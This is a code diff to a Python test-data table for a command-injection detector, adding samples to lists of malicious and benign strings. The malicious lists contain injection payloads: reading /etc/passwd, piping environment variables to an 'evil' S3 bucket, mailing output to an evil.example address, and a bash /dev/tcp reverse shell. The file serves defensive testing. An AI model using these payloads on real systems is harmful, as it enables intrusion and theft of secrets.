@@ -82,9 +82,11 @@ EXAMPLES: dict[str, tuple[list[str], list[str]]] = {
                  ["extract value from data", "update xml files"]),
     # command injection decided on shell tokens (detector "shell")
     "cmdi-101": (["127.0.0.1; cat /etc/passwd", "x|id", "a && whoami", "1|id|x", "| sleep 5 | x |",
-                  "a | env | aws s3 cp - s3://evil/x", "x | id | mail a@evil.example", "|reboot|x|", "|whoami||"],
+                  "a | env | aws s3 cp - s3://evil/x", "x | id | mail a@evil.example", "|reboot|x|", "|whoami||",
+                  ";(id|base64)", "a;(sleep 5|id)x"],
                  ["run `npm test` && deploy", "rock; paper; scissors", "| id | name |\n|----|------|",
-                  "int | set | none"]),
+                  "int | set | none", "it won't fail on (net|free|open)bsd (and perhaps cygwin)",
+                  "and tclwin(get|set)sockopt"]),
     "cmdi-102": (["$(whoami)", "`id`", "x$(cat /etc/passwd)"], ["costs $(5)", "use the `id` field"]),
     "cmdi-103": (["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], ["a > b", "see tcp/ip docs"]),
     "cmdi-104": (["w'h'o'am'i", "/???/c?t /e??/p?ss??", "{cat,/etc/passwd}", "read /etc/pa[s]swd or /e*c/hos?s", "cat /e${x}tc/passwd"],
